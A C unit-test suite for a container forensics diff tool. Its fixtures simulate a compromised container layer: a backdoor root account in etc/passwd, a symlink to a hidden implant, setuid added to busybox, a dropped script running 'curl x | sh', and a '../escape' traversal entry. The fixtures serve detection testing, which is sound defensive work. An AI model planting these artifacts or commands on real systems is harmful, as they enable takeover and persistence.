/* diff: a layer tar written here (libarchive, in memory) against an index
 * built by hand, each kind of change once; whole-root mode; hostile entries;
 * the real sample bag against the fixture image when both are here. */
#include <archive.h>
#include <archive_entry.h>
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>

#include <pthread.h>

#include "contain/analyze.h"
#include "contain/hashio.h"
#include "unit.h"

/* ---- the image, by hand ---- */

static void img_file(struct aidx *x, const char *path, const char *content, uint32_t mode)
{
	struct aidx_entry ent = {.type = AENT_FILE, .mode = mode, .size = strlen(content),
				 .has_sha256 = true};
	sha256_buf(content, strlen(content), ent.sha256);
	struct err e = {0};
	ck_assert_msg(aidx_set(x, path, &ent, NULL, &e) == 0, "%s", e.msg);
}

static void img_other(struct aidx *x, const char *path, enum aent_type t, uint32_t mode,
		      const char *link)
{
	struct aidx_entry ent = {.type = t, .mode = mode, .link_target = link};
	struct err e = {0};
	ck_assert_msg(aidx_set(x, path, &ent, NULL, &e) == 0, "%s", e.msg);
}

/* ---- the layer, written with libarchive ---- */

struct tw {
	struct archive *a;
	char *buf;
	size_t cap, used;
};

static void tw_open(struct tw *t)
{
	t->cap = 8u << 20;
	t->buf = xmalloc(t->cap);
	t->a = archive_write_new();
	ck_assert_int_eq(archive_write_set_format_pax(t->a), ARCHIVE_OK);
	ck_assert_int_eq(archive_write_open_memory(t->a, t->buf, t->cap, &t->used), ARCHIVE_OK);
}

static void tw_add(struct tw *t, const char *path, mode_t type, uint32_t mode, const void *data,
		   size_t n, const char *link, const char *hardlink, const void *caps,
		   size_t caps_len)
{
	struct archive_entry *ae = archive_entry_new();
	archive_entry_set_pathname(ae, path);
	archive_entry_set_filetype(ae, type);
	archive_entry_set_perm(ae, mode);
	archive_entry_set_mtime(ae, 1700000000, 5);
	if (link)
		archive_entry_set_symlink(ae, link);
	if (hardlink)
		archive_entry_set_hardlink(ae, hardlink);
	if (caps)
		archive_entry_xattr_add_entry(ae, "security.capability", caps, caps_len);
	/* overlay bookkeeping: never a change */
	archive_entry_xattr_add_entry(ae, "trusted.overlay.origin", "xyz", 3);
	archive_entry_set_size(ae, type == AE_IFREG && !hardlink ? (la_int64_t)n : 0);
	/* WARN: a name not in the locale's charset, written as binary */
	ck_assert_int_ge(archive_write_header(t->a, ae), ARCHIVE_WARN);
	if (data && n && !hardlink)
		ck_assert_int_eq(archive_write_data(t->a, data, n), (la_ssize_t)n);
	archive_entry_free(ae);
}

static void tw_file(struct tw *t, const char *path, uint32_t mode, const char *content)
{
	tw_add(t, path, AE_IFREG, mode, content, strlen(content), NULL, NULL, NULL, 0);
}

static void tw_close(struct tw *t)
{
	ck_assert_int_eq(archive_write_close(t->a), ARCHIVE_OK);
	archive_write_free(t->a);
}

static struct archive *tr_open(const struct tw *t)
{
	struct archive *a = archive_read_new();
	archive_read_support_format_tar(a);
	ck_assert_int_eq(archive_read_open_memory(a, t->buf, t->used), ARCHIVE_OK);
	return a;
}

/* ---- looking at the result ---- */

static json_t *find(json_t *diff, const char *arr, const char *path)
{
	size_t i;
	json_t *v;
	json_array_foreach(json_object_get(diff, arr), i, v)
	{
		if (!strcmp(json_string_value(json_object_get(v, "path")), path))
			return v;
	}
	return NULL;
}

static bool has_change(json_t *ent, const char *c)
{
	size_t i;
	json_t *v;
	json_array_foreach(json_object_get(ent, "changes"), i, v)
	{
		if (!strcmp(json_string_value(v), c))
			return true;
	}
	return false;
}

static const char *sget(json_t *o, const char *k)
{
	return json_string_value(json_object_get(o, k));
}

static json_int_t stat_of(json_t *diff, const char *k)
{
	return json_integer_value(json_object_get(json_object_get(diff, "stats"), k));
}

static bool note_has(json_t *diff, const char *needle)
{
	size_t i;
	json_t *v;
	json_array_foreach(json_object_get(diff, "notes"), i, v)
	{
		if (strstr(json_string_value(v), needle))
			return true;
	}
	return false;
}

static char *dump(json_t *j)
{
	return json_dumps(j, JSON_INDENT(1));
}

static const char passwd_img[] = "root:x:0:0:root:/root:/bin/sh\n";
static const char passwd_bag[] = "root:x:0:0:root:/root:/bin/sh\nhax:x:0:0::/:/bin/sh\n";
static const char busybox[] = "busybox-content";
static const char big_img[] = "big-content";

static struct aidx *test_image(void)
{
	struct aidx *x = aidx_new();
	img_file(x, "etc/passwd", passwd_img, 0644);
	img_file(x, "etc/motd", "hello", 0644);
	img_file(x, "bin/busybox", busybox, 0755);
	img_file(x, "bin/wget", "wget", 0755);
	img_file(x, "bin/ping", "ping", 0755);
	img_other(x, "bin/ps", AENT_SYMLINK, 0777, "busybox");
	img_file(x, "var/www/index.html", "<html>", 0644);
	img_file(x, "var/www/old.html", "<old>", 0644);
	img_file(x, "var/www/sub/a.txt", "a", 0644);
	img_other(x, "usr/bin", AENT_DIR, 0755, NULL);
	img_file(x, "usr/bin/tool", "tool", 0755);
	img_other(x, "srv", AENT_DIR, 0755, NULL);
	img_file(x, "opt/big.bin", big_img, 0644);
	img_file(x, "opt/huge.bin", "huge", 0644);
	return x;
}

static json_t *test_listing(void)
{
	char sha_big[65], sha_other[65], sha_tool[65];
	sha256_hex(big_img, strlen(big_img), sha_big);
	sha256_hex("other", 5, sha_other);
	sha256_hex("new tool", 8, sha_tool);
	return json_pack(
		"{s:s,s:b,s:[{s:s,s:s,s:s,s:s,s:s,s:b},"
		"{s:s,s:s,s:s,s:i,s:i,s:i,s:s,s:b},{s:s,s:s,s:s,s:i,s:i,s:i,s:s,s:b},"
		"{s:s,s:s,s:s,s:s,s:b},{s:s,s:s,s:s,s:b},"
		"{s:i,s:s,s:s,s:s,s:i,s:i,s:i,s:s,s:b}]}",
		"layer", "upperdir", "whole_root", 0, "entries",
		/* times of the changed passwd */
		"path", "etc/passwd", "type", "file", "mode", "0644", "mtime",
		"2026-12-07T01:54:30.339163674Z", "atime", "2026-12-07T01:54:31Z", "in_tar", 1,
		/* left out of the tar: same content as the image, and different */
		"path", "opt/big.bin", "type", "file", "mode", "0644", "uid", 0, "gid", 0, "size",
		(int)strlen(big_img), "sha256", sha_big, "in_tar", 0,
		"path", "opt/huge.bin", "type", "file", "mode", "0644", "uid", 0, "gid", 0, "size",
		5, "sha256", sha_other, "in_tar", 0,
		/* the hard link's content */
		"path", "usr/bin/newtool2", "type", "hardlink", "hardlink_to", "usr/bin/newtool",
		"sha256", sha_tool, "in_tar", 1,
		"path", "opt", "type", "dir", "mode", "0755", "in_tar", 0,
		/* a deep entry (parent + name) left out of the tar: opt/deep */
		"parent", 4, "name", "deep", "type", "file", "mode", "0600", "uid", 0, "gid", 0,
		"size", 1, "sha256", sha_other, "in_tar", 0);
}

START_TEST(each_kind)
{
	struct aidx *img = test_image();
	_cleanup_free_ char *elf = NULL;
	size_t elf_len = 0;
	bool trunc;
	struct err e = {0};
	ck_assert_int_eq(read_file_at(AT_FDCWD, "/bin/true", 16u << 20, &elf, &elf_len, &trunc, &e),
			 0);
	unsigned char caps[20] = {0, 0, 0, 2, 0, 0x20, 0, 0}; /* vfs cap v2, cap_net_raw */

	struct tw t;
	tw_open(&t);
	tw_add(&t, "./", AE_IFDIR, 0755, NULL, 0, NULL, NULL, NULL, 0);
	tw_add(&t, "bin/", AE_IFDIR, 0755, NULL, 0, NULL, NULL, NULL, 0);
	tw_file(&t, "bin/busybox", 04755, busybox);			  /* chmod u+s */
	tw_add(&t, "bin/ping", AE_IFREG, 0755, "ping", 4, NULL, NULL, caps, sizeof(caps));
	tw_add(&t, "bin/ps", AE_IFLNK, 0777, NULL, 0, "/tmp/.x/implant", NULL, NULL, 0);
	tw_file(&t, "bin/.wh.wget", 0, "");
	tw_file(&t, "bin/.wh.nothere", 0, "");
	tw_add(&t, "etc/", AE_IFDIR, 0755, NULL, 0, NULL, NULL, NULL, 0);
	tw_file(&t, "etc/passwd", 0644, passwd_bag);
	tw_add(&t, "etc/motd/", AE_IFDIR, 0755, NULL, 0, NULL, NULL, NULL, 0); /* type change */
	tw_add(&t, "srv/", AE_IFDIR, 0777, NULL, 0, NULL, NULL, NULL, 0);    /* chmod */
	tw_add(&t, "usr/bin/", AE_IFDIR, 0755, NULL, 0, NULL, NULL, NULL, 0); /* copy-up only */
	tw_file(&t, "usr/bin/newtool", 0755, "new tool");
	tw_add(&t, "usr/bin/newtool2", AE_IFREG, 0755, NULL, 0, NULL, "usr/bin/newtool", NULL, 0);
	tw_add(&t, "tmp/", AE_IFDIR, 01777, NULL, 0, NULL, NULL, NULL, 0);
	tw_add(&t, "tmp/.x/", AE_IFDIR, 0755, NULL, 0, NULL, NULL, NULL, 0);
	tw_add(&t, "tmp/.x/implant", AE_IFREG, 0755, elf, elf_len, NULL, NULL, NULL, 0);
	tw_file(&t, "tmp/drop.sh", 0755, "#!/bin/sh -e\ncurl x | sh\n");
	tw_add(&t, "var/www/", AE_IFDIR, 0755, NULL, 0, NULL, NULL, NULL, 0);
	tw_file(&t, "var/www/.wh..wh..opq", 0644, "");
	tw_file(&t, "var/www/index.html", 0644, "pwned");
	tw_file(&t, "../escape", 0644, "x");
	/* overlayfs' own forms: a 0:0 char device, the opaque xattr */
	tw_add(&t, "usr/bin/tool", AE_IFCHR, 0, NULL, 0, NULL, NULL, NULL, 0);
	struct archive_entry *od = archive_entry_new();
	archive_entry_set_pathname(od, "bin/");
	archive_entry_set_filetype(od, AE_IFDIR);
	archive_entry_set_perm(od, 0755);
	archive_entry_xattr_add_entry(od, "trusted.overlay.opaque", "y", 1);
	ck_assert_int_ge(archive_write_header(t.a, od), ARCHIVE_WARN);
	archive_entry_free(od);
	tw_close(&t);

	json_t *listing = test_listing();
	struct aftype *ft = NULL;
	ck_assert_int_eq(aftype_open(&ft, &e), 0);
	struct adiff_opts o = {.files_json = listing, .ftype = ft};
	struct archive *a = tr_open(&t);
	json_t *diff = NULL;
	struct aidx *kept = NULL;
	ck_assert_msg(adiff_layer(img, a, &o, &diff, &kept, &e) == 0, "%s", e.msg);
	_cleanup_free_ char *txt = dump(diff);
	if (getenv("TEST_DIFF_DUMP"))
		printf("%s\n", txt);

	/* modified: passwd, both hashes, times from the listing */
	json_t *v = find(diff, "modified", "etc/passwd");
	ck_assert_msg(v, "%s", txt);
	ck_assert(has_change(v, "content"));
	char want[65];
	sha256_hex(passwd_img, strlen(passwd_img), want);
	ck_assert_str_eq(sget(v, "image_sha256"), want);
	sha256_hex(passwd_bag, strlen(passwd_bag), want);
	ck_assert_str_eq(sget(v, "sha256"), want);
	ck_assert_str_eq(sget(v, "mtime"), "2026-12-07T01:54:30.339163674Z");
	ck_assert_str_eq(sget(v, "atime"), "2026-12-07T01:54:31Z");
	ck_assert_str_eq(sget(v, "mime"), "text/plain");
	/* kept on the bag's side */
	aidx_id kid = aidx_lookup(kept, "etc/passwd");
	ck_assert_uint_ne(kid, AIDX_NONE);
	size_t kn;
	const char *kc = aidx_kept(kept, kid, &kn, NULL);
	ck_assert_uint_eq(kn, strlen(passwd_bag));
	ck_assert_int_eq(memcmp(kc, passwd_bag, kn), 0);

	/* type change */
	v = find(diff, "modified", "etc/motd");
	ck_assert_msg(v, "%s", txt);
	ck_assert(has_change(v, "type"));
	ck_assert_str_eq(sget(v, "image_type"), "file");
	ck_assert_str_eq(sget(v, "type"), "dir");

	/* metadata: setuid, caps, link target, dir mode */
	v = find(diff, "metadata", "bin/busybox");
	ck_assert_msg(v, "%s", txt);
	ck_assert(has_change(v, "mode") && has_change(v, "setuid-added"));
	ck_assert(!has_change(v, "xattrs")); /* the overlay xattr is not one */
	ck_assert_str_eq(sget(v, "mode"), "4755");
	ck_assert_str_eq(sget(v, "image_mode"), "0755");
	v = find(diff, "metadata", "bin/ping");
	ck_assert_msg(v, "%s", txt);
	ck_assert(has_change(v, "caps-added"));
	ck_assert(!has_change(v, "xattrs"));
	ck_assert_str_eq(sget(v, "caps"), "0000000200200000000000000000000000000000");
	v = find(diff, "metadata", "bin/ps");
	ck_assert_msg(v, "%s", txt);
	ck_assert(has_change(v, "link-target"));
	ck_assert_str_eq(sget(v, "link_target"), "/tmp/.x/implant");
	ck_assert_str_eq(sget(v, "image_link_target"), "busybox");
	v = find(diff, "metadata", "srv");
	ck_assert_msg(v, "%s", txt);
	ck_assert(has_change(v, "mode"));
	/* copy-up directories with nothing changed are not listed */
	ck_assert_ptr_null(find(diff, "metadata", "usr/bin"));
	ck_assert_ptr_null(find(diff, "metadata", "bin"));
	ck_assert_ptr_null(find(diff, "added", "bin"));

	/* deleted, and a whiteout of nothing */
	v = find(diff, "deleted", "bin/wget");
	ck_assert_msg(v, "%s", txt);
	ck_assert_str_eq(sget(v, "image_type"), "file");
	ck_assert_ptr_nonnull(sget(v, "image_sha256"));
	ck_assert_ptr_null(find(diff, "deleted", "bin/nothere"));
	ck_assert(note_has(diff, "bin/nothere"));

	/* opaque: what it hides */
	v = find(diff, "opaque", "var/www");
	ck_assert_msg(v, "%s", txt);
	ck_assert_int_eq(json_integer_value(json_object_get(v, "hidden")), 4);
	ck_assert_uint_eq(json_array_size(json_object_get(v, "hidden_sample")), 4);
	ck_assert_ptr_nonnull(find(diff, "modified", "var/www/index.html"));

	/* added: the ELF, the script, the tool and its hard link */
	v = find(diff, "added", "tmp/.x/implant");
	ck_assert_msg(v, "%s", txt);
	json_t *ej = json_object_get(v, "elf");
	ck_assert_str_eq(sget(ej, "type"), "pie executable");
	ck_assert_str_eq(sget(ej, "linkage"), "dynamic");
	ck_assert(str_has_prefix(sget(v, "magic"), "ELF 64-bit"));
	ck_assert(json_is_null(json_object_get(v, "shebang")));
	v = find(diff, "added", "tmp/drop.sh");
	ck_assert_msg(v, "%s", txt);
	ck_assert_str_eq(sget(v, "shebang"), "/bin/sh -e");
	ck_assert(json_is_null(json_object_get(v, "elf")));
	ck_assert_str_eq(sget(v, "mime"), "text/x-shellscript");
	ck_assert_str_eq(sget(v, "mtime"), "2023-11-14T22:13:20.000000005Z"); /* from the tar */
	v = find(diff, "added", "usr/bin/newtool2");
	ck_assert_msg(v, "%s", txt);
	sha256_hex("new tool", 8, want);
	ck_assert_str_eq(sget(v, "sha256"), want);
	ck_assert_ptr_nonnull(find(diff, "added", "tmp"));
	ck_assert_ptr_nonnull(find(diff, "added", "tmp/.x"));

	/* left out of the tar: compared by the listing's hash */
	ck_assert_ptr_null(find(diff, "modified", "opt/big.bin"));
	v = find(diff, "modified", "opt/huge.bin");
	ck_assert_msg(v, "%s", txt);
	ck_assert(json_is_false(json_object_get(v, "in_tar")));
	ck_assert(has_change(v, "content"));
	v = find(diff, "added", "opt/deep");
	ck_assert_msg(v, "%s", txt);

	/* hostile name: noted, skipped */
	ck_assert(note_has(diff, "'..'"));
	ck_assert_ptr_null(find(diff, "added", "escape"));

	ck_assert_msg(find(diff, "deleted", "usr/bin/tool"), "%s", txt);
	v = find(diff, "opaque", "bin");
	ck_assert_msg(v, "%s", txt);
	ck_assert_int_eq(json_integer_value(json_object_get(v, "hidden")), 4);

	/* counts */
	ck_assert_int_eq(stat_of(diff, "deleted"), 2);
	ck_assert_int_eq(stat_of(diff, "opaque"), 2);
	ck_assert_int_eq(stat_of(diff, "modified"),
			 (json_int_t)json_array_size(json_object_get(diff, "modified")));
	ck_assert_int_ge(stat_of(diff, "unchanged"), 3); /* bin, usr/bin, opt/big.bin */
	ck_assert_int_gt(stat_of(diff, "bytes_hashed"), (json_int_t)elf_len);

	json_decref(diff);
	json_decref(listing);
	aidx_free(kept);
	aidx_free(img);
	aftype_close(ft);
	archive_read_free(a);
	free(t.buf);
}
END_TEST

/* the whole root: what the listing lacks is deleted, except where it did
 * not walk (a mount point) */
START_TEST(whole_root)
{
	struct aidx *img = aidx_new();
	img_file(img, "a", "same", 0644);
	img_file(img, "b/c", "gone", 0644);
	img_file(img, "b/d", "gone too", 0644);
	img_file(img, "proc/self", "x", 0644);
	img_file(img, "mnt/data/x", "x", 0644);
	img_file(img, ".wh.x", "a file so named", 0644);

	struct tw t;
	tw_open(&t);
	tw_add(&t, "./", AE_IFDIR, 0755, NULL, 0, NULL, NULL, NULL, 0);
	tw_file(&t, "a", 0644, "same");
	tw_add(&t, "proc/", AE_IFDIR, 0755, NULL, 0, NULL, NULL, NULL, 0);
	tw_add(&t, "mnt/", AE_IFDIR, 0755, NULL, 0, NULL, NULL, NULL, 0);
	tw_add(&t, "mnt/data/", AE_IFDIR, 0755, NULL, 0, NULL, NULL, NULL, 0);
	tw_file(&t, ".wh.x", 0644, "a file so named");
	tw_close(&t);
	json_t *listing = json_pack("{s:s,s:b,s:[{s:s,s:s,s:b,s:b},{s:s,s:s,s:b,s:b}]}", "layer",
				    "rootfs", "whole_root", 1, "entries", "path", "proc", "type",
				    "dir", "mount_point", 1, "in_tar", 1, "path", "mnt/data",
				    "type", "dir", "mount_point", 1, "in_tar", 1);
	struct adiff_opts o = {.whole_root = true, .files_json = listing};
	struct archive *a = tr_open(&t);
	json_t *diff = NULL;
	struct err e = {0};
	ck_assert_msg(adiff_layer(img, a, &o, &diff, NULL, &e) == 0, "%s", e.msg);
	_cleanup_free_ char *txt = dump(diff);
	json_t *v = find(diff, "deleted", "b");
	ck_assert_msg(v, "%s", txt);
	ck_assert_int_eq(json_integer_value(json_object_get(v, "image_entries")), 2);
	ck_assert_int_eq(stat_of(diff, "deleted"), 1);
	ck_assert_ptr_null(find(diff, "deleted", "proc/self"));
	ck_assert_ptr_null(find(diff, "deleted", "mnt/data/x"));
	ck_assert_int_eq(stat_of(diff, "added"), 0);
	ck_assert_int_eq(json_array_size(json_object_get(diff, "opaque")), 0);
	json_decref(diff);
	archive_read_free(a);

	/* without a listing: proc, sys, dev are not judged */
	o.files_json = NULL;
	a = tr_open(&t);
	ck_assert_msg(adiff_layer(img, a, &o, &diff, NULL, &e) == 0, "%s", e.msg);
	free(txt);
	txt = dump(diff);
	ck_assert_ptr_null(find(diff, "deleted", "proc"));
	ck_assert_ptr_null(find(diff, "deleted", "proc/self"));
	ck_assert_msg(find(diff, "deleted", "mnt/data/x"), "%s", txt);
	ck_assert_msg(find(diff, "deleted", "b"), "%s", txt);
	json_decref(diff);
	json_decref(listing);
	archive_read_free(a);
	free(t.buf);
	aidx_free(img);
}
END_TEST

/* hostile: long paths, invalid UTF-8, a truncated tar, not a tar */
START_TEST(hostile)
{
	struct aidx *img = aidx_new();
	img_file(img, "x", "x", 0644);
	struct tw t;
	tw_open(&t);
	char *longp = xmalloc(AN_PATH_MAX + 100);
	memset(longp, 'a', AN_PATH_MAX + 99);
	longp[AN_PATH_MAX + 99] = 0;
	tw_file(&t, longp, 0644, "x");
	tw_file(&t, "bad\xff%name", 0644, "x");
	tw_file(&t, "/abs/olute", 0644, "x");
	tw_file(&t, "caf\xc3\xa9", 0644, "x"); /* UTF-8 in a C locale */
	tw_add(&t, "lnk", AE_IFLNK, 0777, NULL, 0, "/tmp/\xc3\xa9t\xc3\xa9", NULL, NULL, 0);
	tw_file(&t, "y", 0644, "0123456789abcdef");
	/* sparse: 4 bytes of data, then a hole to 1 MiB */
	size_t sparse_n = 1u << 20;
	char *sparse = xcalloc(1, sparse_n);
	memcpy(sparse, "abcd", 4);
	struct archive_entry *ae = archive_entry_new();
	archive_entry_set_pathname(ae, "sparse");
	archive_entry_set_filetype(ae, AE_IFREG);
	archive_entry_set_perm(ae, 0644);
	archive_entry_set_size(ae, (la_int64_t)sparse_n);
	archive_entry_sparse_add_entry(ae, 0, 4);
	ck_assert_int_ge(archive_write_header(t.a, ae), ARCHIVE_WARN);
	ck_assert_int_eq(archive_write_data(t.a, sparse, sparse_n), (la_ssize_t)sparse_n);
	archive_entry_free(ae);
	char sparse_sha[65];
	sha256_hex(sparse, sparse_n, sparse_sha);
	free(sparse);
	tw_close(&t);
	free(longp);
	struct adiff_opts o = {0};
	struct err e = {0};
	json_t *diff = NULL;

	struct archive *a = tr_open(&t);
	ck_assert_msg(adiff_layer(img, a, &o, &diff, NULL, &e) == 0, "%s", e.msg);
	_cleanup_free_ char *txt = dump(diff);
	ck_assert_msg(note_has(diff, "longer than"), "%s", txt);
	ck_assert_msg(find(diff, "added", "bad%FF%25name"), "%s", txt);
	ck_assert_msg(find(diff, "added", "abs/olute"), "%s", txt);
	ck_assert_msg(find(diff, "added", "y"), "%s", txt);
	ck_assert_msg(find(diff, "added", "caf\xc3\xa9"), "%s", txt);
	json_t *sp = find(diff, "added", "sparse");
	ck_assert_msg(sp, "%s", txt);
	ck_assert_str_eq(sget(sp, "sha256"), sparse_sha);
	ck_assert_int_eq(json_integer_value(json_object_get(sp, "size")), 1 << 20);
	ck_assert_msg(!note_has(diff, "declared"), "%s", txt);
	json_t *lk = find(diff, "added", "lnk");
	ck_assert_msg(lk, "%s", txt);
	ck_assert_str_eq(sget(lk, "link_target"), "/tmp/\xc3\xa9t\xc3\xa9");
	json_decref(diff);
	archive_read_free(a);

	/* cut inside y's data: the entries before it stand, a note says why */
	struct tw cut = t;
	cut.used = t.used - 1024 - 512 - 10;
	a = tr_open(&cut);
	diff = NULL;
	ck_assert_msg(adiff_layer(img, a, &o, &diff, NULL, &e) == 0, "%s", e.msg);
	free(txt);
	txt = dump(diff);
	ck_assert_msg(find(diff, "added", "abs/olute"), "%s", txt);
	ck_assert_msg(note_has(diff, "the rest not read"), "%s", txt);
	json_decref(diff);
	archive_read_free(a);

	free(t.buf);
	aidx_free(img);
}
END_TEST

/* the sample bag of a compromised runc container against the fixture image
 * (both made outside this test: skipped when absent) */
START_TEST(sample_bag)
{
	const char *bag = getenv("CONTAIN_SAMPLE_BAG") ? getenv("CONTAIN_SAMPLE_BAG")
						       : "/work/wt/sample-bag";
	static const char *const imgs[] = {"fixtures/cache/oci", "/work/main/fixtures/cache/oci"};
	char tarp[512], fjp[512];
	snprintf(tarp, sizeof(tarp), "%s/data/fs/upper.tar", bag);
	snprintf(fjp, sizeof(fjp), "%s/data/fs/files.json", bag);
	const char *imgp = NULL;
	struct stat st;
	for (size_t i = 0; i < ARRAY_SIZE(imgs) && !imgp; i++)
		if (stat(imgs[i], &st) == 0)
			imgp = imgs[i];
	if (!imgp || stat(tarp, &st) != 0) {
		printf("# SKIP no sample bag (%s) or fixture image (fixtures/build.sh)\n", bag);
		fflush(stdout);
		return;
	}
	struct err e = {0};
	struct aimg *img = NULL;
	struct aimg_opts io = {.path = imgp};
	ck_assert_msg(aimg_open(&io, &img, &e) == 0, "%s", e.msg);
	json_error_t je;
	json_t *fj = json_load_file(fjp, 0, &je);
	ck_assert_ptr_nonnull(fj);
	struct aftype *ft = NULL;
	ck_assert_int_eq(aftype_open(&ft, &e), 0);
	struct archive *a = archive_read_new();
	archive_read_support_format_tar(a);
	ck_assert_int_eq(archive_read_open_filename(a, tarp, 1 << 16), ARCHIVE_OK);
	struct adiff_opts o = {.files_json = fj, .ftype = ft};
	json_t *diff = NULL;
	struct aidx *kept = NULL;
	ck_assert_msg(adiff_layer(img->idx, a, &o, &diff, &kept, &e) == 0, "%s", e.msg);
	_cleanup_free_ char *txt = dump(diff);
	if (getenv("TEST_DIFF_DUMP"))
		printf("%s\n", txt);

	json_t *v = find(diff, "modified", "etc/passwd");
	ck_assert_msg(v, "%s", txt);
	ck_assert(has_change(v, "content"));
	ck_assert_ptr_nonnull(aidx_kept(kept, aidx_lookup(kept, "etc/passwd"), NULL, NULL));
	ck_assert_msg(find(diff, "deleted", "bin/wget"), "%s", txt);
	v = find(diff, "opaque", "var/www");
	ck_assert_msg(v, "%s", txt);
	v = find(diff, "added", "tmp/.x/implant");
	ck_assert_msg(v, "%s", txt);
	ck_assert(json_is_object(json_object_get(v, "elf")));
	v = find(diff, "metadata", "bin/busybox");
	ck_assert_msg(v, "%s", txt);
	ck_assert(has_change(v, "setuid-added"));
	ck_assert_msg(find(diff, "added", "tmp/drop.sh"), "%s", txt);
	ck_assert_msg(find(diff, "added", "root/.ssh/authorized_keys"), "%s", txt);
	/* the parents copied up for what changed below them are not listed */
	ck_assert_ptr_null(find(diff, "metadata", "etc"));
	ck_assert_ptr_null(find(diff, "metadata", "usr/bin"));
	json_decref(diff);
	json_decref(fj);
	archive_read_free(a);
	aftype_close(ft);
	aidx_free(kept);
	aimg_free(img);
}
END_TEST

/* the content hook: every added or modified regular file (listed or not),
 * its first content_max bytes, the mime set; never an unchanged one */
struct seen {
	pthread_mutex_t mu;
	json_t *got; /* path -> {change, n, size, mime, head} */
};

static void hook_fn(void *ctx, const struct adiff_content *c)
{
	struct seen *s = ctx;
	char hex[65];
	hex_encode(c->sha256, 32, hex);
	json_t *o = json_pack("{s:s,s:I,s:I,s:s%,s:s,s:s}", "change", c->change, "n",
			      (json_int_t)c->n, "size", (json_int_t)c->size, "head", c->buf,
			      c->n < 8 ? c->n : 8, "sha", hex, "mime", c->mime ? c->mime : "");
	pthread_mutex_lock(&s->mu);
	json_object_set_new(s->got, c->path, o);
	pthread_mutex_unlock(&s->mu);
}

START_TEST(content_hook)
{
	struct aidx *img = aidx_new();
	img_file(img, "etc/same", "same-content", 0644);
	img_file(img, "etc/changed", "old-content", 0644);
	img_file(img, "etc/meta", "meta-content", 0644);
	struct tw t;
	tw_open(&t);
	tw_file(&t, "etc/same", 0644, "same-content");
	tw_file(&t, "etc/changed", 0644, "new-content!");
	tw_file(&t, "etc/meta", 0600, "meta-content");
	tw_file(&t, "tmp/new.sh", 0755, "#!/bin/sh\necho hi\n");
	char *big = xmalloc(3 << 20);
	memset(big, 'z', 3 << 20);
	memcpy(big, "BIGHEAD!", 8);
	tw_add(&t, "opt/big", AE_IFREG, 0644, big, 3 << 20, NULL, NULL, NULL, 0);
	tw_add(&t, "tmp/link", AE_IFLNK, 0777, NULL, 0, "new.sh", NULL, NULL, 0);
	tw_close(&t);
	struct aftype *ft = NULL;
	struct err e = {0};
	ck_assert_int_eq(aftype_open(&ft, &e), 0);
	struct seen s = {.got = json_object()};
	pthread_mutex_init(&s.mu, NULL);
	struct adiff_content_hook hook = {.content_max = 2u << 20, .fn = hook_fn, .ctx = &s};
	struct adiff_opts o = {.ftype = ft, .content = &hook};
	struct archive *a = tr_open(&t);
	json_t *diff = NULL;
	ck_assert_msg(adiff_layer(img, a, &o, &diff, NULL, &e) == 0, "%s", e.msg);
	_cleanup_free_ char *txt = dump(s.got);
	ck_assert_msg(json_object_size(s.got) == 3, "%s", txt);
	json_t *c = json_object_get(s.got, "etc/changed");
	ck_assert_str_eq(sget(c, "change"), "modified");
	ck_assert_int_eq(json_integer_value(json_object_get(c, "n")), 12);
	c = json_object_get(s.got, "tmp/new.sh");
	ck_assert_str_eq(sget(c, "change"), "added");
	ck_assert_str_eq(sget(c, "head"), "#!/bin/s");
	ck_assert_msg(strstr(sget(c, "mime"), "text/"), "%s", txt);
	c = json_object_get(s.got, "opt/big");
	ck_assert_int_eq(json_integer_value(json_object_get(c, "n")), 2 << 20);
	ck_assert_int_eq(json_integer_value(json_object_get(c, "size")), 3 << 20);
	ck_assert_str_eq(sget(c, "head"), "BIGHEAD!");
	ck_assert_str_eq(sget(c, "sha"), sget(find(diff, "added", "opt/big"), "sha256"));
	/* libmagic still had its bytes */
	ck_assert_ptr_nonnull(sget(find(diff, "added", "tmp/new.sh"), "mime"));
	json_decref(diff);
	json_decref(s.got);
	archive_read_free(a);
	free(big);
	free(t.buf);
	aftype_close(ft);
	aidx_free(img);
}
END_TEST

Suite *unit_suite(void)
{
	Suite *s = suite_create("diff");
	TCase *tc = tcase_create("diff");
	tcase_set_timeout(tc, 120);
	tcase_add_test(tc, each_kind);
	tcase_add_test(tc, whole_root);
	tcase_add_test(tc, hostile);
	tcase_add_test(tc, sample_bag);
	tcase_add_test(tc, content_hook);
	suite_add_tcase(s, tc);
	return s;
}
